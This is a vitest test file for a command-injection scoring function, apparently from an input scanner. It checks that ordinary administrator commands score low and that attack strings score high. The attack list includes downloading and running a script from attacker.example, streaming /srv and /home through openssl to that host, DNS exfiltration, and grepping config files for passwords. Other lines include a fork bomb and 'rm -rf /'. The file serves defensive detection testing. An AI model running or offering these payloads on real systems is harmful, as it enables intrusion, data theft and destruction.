import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

/** Lines of administrators, in searches, tickets and jobs. */
const chores: readonly string[] = [
  "ps -ef | grep tomcat | grep -v grep | awk '{print $2}' | xargs kill -9; sleep 2; systemctl start tomcat",
  "find /var/log/app -name '*.log' -mtime +14 -exec gzip {} \\; && find /var/log/app -name '*.gz' -mtime +90 -delete",
  'cat <<EOF | sudo tee /etc/sysctl.d/90-net.conf\nnet.core.somaxconn=1024\nEOF\nsudo sysctl --system',
  'openssl req -new -key s.key -out s.csr -subj "/CN=shop.example.org" && chmod 600 s.key && ls -l s.*',
  'iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE; iptables-save > /etc/iptables/rules.v4',
  'while read -r name; do echo "$name" | tr a-z A-Z >> out.txt; done < names.txt',
  'Get-ChildItem D:\\Backup -Filter *.bak | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item -Verbose',
  'until nc -vz queue 5672; do\n  echo "queue is not up"\n  sleep 2\ndone\nexec node server.js',
  'curl -fsSL https://get.example/i.sh | sh -s -- --version 2\nexport PATH="$HOME/.t/bin:$PATH"\nnpm login && npm whoami',
  '#!/bin/sh\nexec "$(dirname "$0")/tool.bin" "$@"\n',
  '@echo off\nsetlocal\nfor /f "tokens=1,2 delims=," %%a in (users.csv) do (\n  echo %%a %%b\n)\nendlocal',
  'python3 -c "import json,sys; print(len(json.load(sys.stdin)))" < list.json',
]

/** What people say about commands, and patterns that hold their names. */
const remarks: readonly string[] = [
  '"; rm -rf /" was the joke on the mug that our admin got for his birthday.',
  'curl -L stops with a 301; do I need another flag or is the server broken?',
  'what does 2>&1 mean; bash | sh',
  '`npm install | sh` considered harmful',
  'haha run `:(){ :|:& };:` on your server, no please do not, it freezes',
  'R & D; test $20 `final`.docx',
  'location ~* \\.(?:sql|bak|sh|log|env)$ { deny all; }',
  '%ProgramFiles%\\Git\\bin\\git.exe',
  '=HYPERLINK("https://shop.example.org/orders/"&B7,"Order "&B7)',
]

/** As long, but they look around, read secrets, call out, or show that they ran. */
const attacks: readonly string[] = [
  'if [ $(hostname | cut -c 2) = w ] && [ 1 -eq 1 ]; then sleep 7; fi',
  'find / -name "*.conf" -type f -readable 2>/dev/null | xargs grep -i password',
  'ls -la /home /root; ps aux; netstat -an; cat /etc/hosts',
  'cd /tmp && wget http://attacker.example/m.sh && chmod 777 m.sh && ./m.sh && rm m.sh',
  'tar -cf - /srv /home | openssl s_client -quiet -connect attacker.example:443 2>/dev/null',
  'for i in $(ls / ) ; do host "$i.x.attacker.example" ; done ; echo a b c',
  '127.0.0.1 \n wget https://attacker.example/r.txt -O /tmp/r.php \n php /tmp/r.php',
  'which nc;id',
]

describe('work of administrators', () => {
  it.each(chores)('is not refused: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(80)
    expect(totalOf(value, { kind: 'body', where: 'body.json./text' })).toBeLessThan(80)
  })

  it.each(remarks)('is talked about: %s', (value) => expect(familyTotalOf('cmdi', value)).toBeLessThan(80))

  it.each([
    ["ss -tlnp | grep ':8080' || lsof -i :8080", 'body.json./input/cmd'],
    ['grep -rn timeout src | head -20', 'body.json./command'],
  ])('is not refused where a document holds commands: %s', (value, where) => {
    expect(totalOf(value, { kind: 'body', where })).toBeLessThan(80)
  })

  it.each(attacks)('is not what this is: %s', (value) =>
    expect(familyTotalOf('cmdi', value)).toBeGreaterThanOrEqual(80))
})
